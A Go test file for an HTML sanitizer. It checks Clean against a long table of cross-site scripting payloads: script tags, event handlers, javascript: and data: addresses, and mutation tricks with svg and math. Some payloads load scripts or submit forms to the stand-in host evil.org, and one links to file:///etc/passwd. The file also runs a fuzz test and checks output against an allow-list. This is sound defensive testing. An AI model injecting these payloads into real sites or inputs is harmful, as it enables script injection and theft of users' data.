package text

import (
	"net/url"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// attacks are ways in which markup has run scripts, sent forms, loaded
// documents or broken out of its place, in browsers or behind sanitizers.
var attacks = []string{
	// Scripts and handlers.
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.org/x.js></SCRIPT>`, `<script/src=//evil.org>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>", "<script\x0C>alert(1)</script>", `<ſcript>alert(1)</ſcript>`, `<ScRİpT>alert(1)</ScRİpT>`,
	`<img src=x onerror=alert(1)>`, `<img src="x"onerror="alert(1)">`, `<img/src=x/onerror=alert(1)>`, "<img src=x\nonerror\n=alert(1)>",
	`<img src=x OnErRoR=alert(1) `, `<img src='x' onerror="alert(1)`, "<img src=`x`onerror=alert(1)>", `<img """><script>alert(1)</script>">`,
	`<body onload=alert(1)>`, `<div onpointerover=alert(1)>x</div>`, `<p onclick=alert(1)//`, `<details open ontoggle=alert(1)>`,
	`<a href=x onmouseover=alert(1)>x</a>`, `<marquee onstart=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`, `<select onfocus=alert(1) autofocus>`, `<isindex type=image src=1 onerror=alert(1)>`, `<image src=x onerror=alert(1)>`,
	// Addresses.
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
	`<a href="java&#x09;script:alert(1)">x</a>`, `<a href="&#106;&#97;vascript:alert(1)">x</a>`, `<a href="&#x6A&#x61vascript:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>", `<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="jav&Tab;ascript:alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="view-source:javascript:x">x</a>`, `<a href="feed:javascript:alert(1)">x</a>`,
	`<a href="http://x&#10;javascript:alert(1)">x</a>`, `<a href="//evil.org\@example.org">x</a>`, `<a href="https:javascript:alert(1)">x</a>`, `<a href="file:///etc/passwd">x</a>`,
	`<img src="javascript:alert(1)">`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img srcset="x 1x, javascript:alert(1) 2x">`, `<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">`,
	`<blockquote cite="javascript:alert(1)">x</blockquote>`, `<q cite="data:x">x</q>`, `<table background="javascript:alert(1)"><td background="javascript:alert(1)">`, `<a href=x target=_blank ping="//evil.org">x</a>`,
	// Documents within the document.
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">`, `<embed src="javascript:alert(1)">`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`, `<applet code=x></applet>`, `<frameset onload=alert(1)><frame src=x></frameset>`, `<portal src="//evil.org">`,
	`<base href="javascript:/a/">`, `<base href="//evil.org/"><a href="x">x</a>`, `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<link rel=stylesheet href="//evil.org/x.css">`,
	// Styles.
	`<style>@import '//evil.org/x.css';</style>`, `<div style="background:url(javascript:alert(1))">x</div>`, `<p style="width:expression(alert(1))">x</p>`, `<style><img src="</style><img src=x onerror=alert(1)>">`,
	`<div style="position:fixed;inset:0">x</div>`, `<p class="modal" id="login">x</p>`,
	// Forms.
	`<form action="//evil.org"><input name=p><button formaction="javascript:alert(1)">x</button></form>`, `<button form=f formaction="javascript:alert(1)">x`, `<isindex action="javascript:alert(1)">`, `<textarea><img src=x onerror=alert(1)></textarea>`,
	`<form id=f><input name=attributes></form>`, `<keygen autofocus onfocus=alert(1)>`, `<label for=x>x</label><output>y</output>`, `<select><option><script>alert(1)</script></option></select>`,
	// Foreign elements and mutations.
	`<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><script>alert&#40;1)</script>`, `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x>`, `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,x#x"/></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<title><img title="</title><img src=x onerror=alert(1)>"></title>`, `<template><script>alert(1)</script></template>`, `<plaintext><script>alert(1)</script>`,
	`<select><style><img src=x onerror=alert(1)></style></select>`, `<option><style></option></select><img src=x onerror=alert(1)></style>`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<b><noframes><img title="</noframes><script>alert(1)</script>">`,
	// Comments, declarations, loose ends.
	`<!--><img src=x onerror=alert(1)>-->`, `<!--!><script>alert(1)</script>-->`, `<!-- --!><script>alert(1)</script> -->`, `<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;`,
	`<![CDATA[<script>alert(1)</script>]]>`, `<![CD<![CDATA[ATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><?php echo 1 ?><script>alert(1)</script>`, `</script><script>alert(1)</script>`,
	`<<script>alert(1);//<</script>`, `<a<b href="javascript:x">`, `<a href="x`, `<`, `</`, `<a href='x">`, `<a title="><script>alert(1)</script>">x`, `"><script>alert(1)</script>`, `';alert(1)//`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;`, `<p title="&lt;script&gt;">x</p>`, "\xEF\xBB\xBF<script>alert(1)</script>", "<a href=\"\xff\xfe\">x", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u2028<script>\u2029alert(1)</script>",
}

func TestCleanWithstandsAttacks(t *testing.T) {
	if len(attacks) < 60 {
		t.Fatalf("got %d attacks, want at least 60", len(attacks))
	}
	for _, attack := range attacks {
		for _, in := range []string{attack, "<p>a" + attack + "b</p>", "<table><td>" + attack, "<pre>" + attack + "</pre>", "<svg>" + attack + "</svg>" + attack, "<math><mtext>" + attack} {
			got := Clean(in, page(t))
			if !checkSafe(t, got) {
				t.Errorf("attack: %q", in)
			}
			if again := Clean(got.HTML, page(t)); again.HTML != got.HTML {
				t.Errorf("cleaning %q again changed\n%s to\n%s", in, got.HTML, again.HTML)
			}
			if plain := Plain(got.HTML); plain != got.Text {
				t.Errorf("the text of %q is %q, but that of its clean HTML %q", in, got.Text, plain)
			}
		}
	}
}

// FuzzClean checks on any input what the table of attacks checks on its own.
func FuzzClean(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Add(`<ul><li>a<li><p>b<table><tr><td>c<p>d</li></ul><a href="?q=ä&b#f">x<a href=y>`)
	f.Fuzz(func(t *testing.T, in string) {
		got := Clean(in, page(t))
		checkSafe(t, got)
		if again := Clean(got.HTML, page(t)); again.HTML != got.HTML {
			t.Errorf("cleaning again changed\n%q to\n%q", got.HTML, again.HTML)
		}
		if plain := Plain(got.HTML); plain != got.Text {
			t.Errorf("the text is %q, but that of the clean HTML %q", got.Text, plain)
		}
		for _, s := range []string{Title(in, 100), Excerpt(got.Text, 50)} {
			if !isLegible(s) || strings.Contains(s, "\n") {
				t.Errorf("got %q, want one legible line", s)
			}
		}
	})
}

// checkSafe parses the HTML as a browser would and reports whether nothing is
// in it but what we allow.
func checkSafe(t *testing.T, c Cleaned) bool {
	t.Helper()
	if !isLegible(c.HTML) || !isLegible(c.Text) || !utf8.ValidString(c.HTML) {
		t.Errorf("got %q and %q, want legible UTF-8", c.HTML, c.Text)
		return false
	}
	body := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := html.ParseFragment(strings.NewReader(c.HTML), body)
	if err != nil {
		t.Errorf("the clean HTML does not parse: %v", err)
		return false
	}
	ok := true
	for _, root := range nodes {
		for n := range walk(root) {
			if fault := unsafe(n); fault != "" {
				t.Errorf("%s in %.300q", fault, c.HTML)
				ok = false
			}
		}
	}
	for _, image := range c.Images {
		if u, err := url.Parse(image); err != nil || !strings.HasPrefix(u.Scheme, "http") || u.Host == "" {
			t.Errorf("got image %q, want an absolute address", image)
			ok = false
		}
	}
	return ok
}

func walk(root *html.Node) func(func(*html.Node) bool) {
	return func(yield func(*html.Node) bool) {
		if yield(root) {
			root.Descendants()(yield)
		}
	}
}

// The allowed names stand here once more, so that a slip in the tables of the
// package does not allow itself.
const (
	safeElements = " a abbr acronym article aside b bdi bdo blockquote br caption cite code dd del details dfn div dl dt em figcaption figure " +
		"h1 h2 h3 h4 h5 h6 hgroup hr i img ins kbd li mark ol p pre q rp rt ruby s samp section small strike strong sub summary sup table tbody " +
		"td tfoot th thead time tr tt u ul var wbr "
	safeAttributes = " href rel title cite datetime open src alt width height value start type reversed colspan rowspan scope dir "
)

// unsafe returns what is wrong with a node, or "".
func unsafe(n *html.Node) string {
	switch n.Type {
	case html.TextNode:
		return ""
	case html.ElementNode:
	default:
		return "a node that is neither element nor text"
	}
	if n.Namespace != "" || !strings.Contains(safeElements, " "+n.Data+" ") {
		return "element " + n.Namespace + " " + n.Data
	}
	for _, a := range n.Attr {
		if a.Namespace != "" || !strings.Contains(safeAttributes, " "+a.Key+" ") {
			return "attribute " + a.Key
		}
		if a.Key == "href" || a.Key == "src" || a.Key == "cite" {
			if fault := unsafeAddress(a.Val); fault != "" {
				return fault
			}
		}
	}
	if n.Data == "a" && (len(n.Attr) == 0 || n.Attr[len(n.Attr)-1].Val != "nofollow noopener noreferrer") {
		return "a link without rel"
	}
	return ""
}

func unsafeAddress(address string) string {
	for _, scheme := range []string{"http://", "https://", "mailto:"} {
		if strings.HasPrefix(address, scheme) && !strings.ContainsFunc(address, unicode.IsControl) {
			return ""
		}
	}
	return "address " + address
}
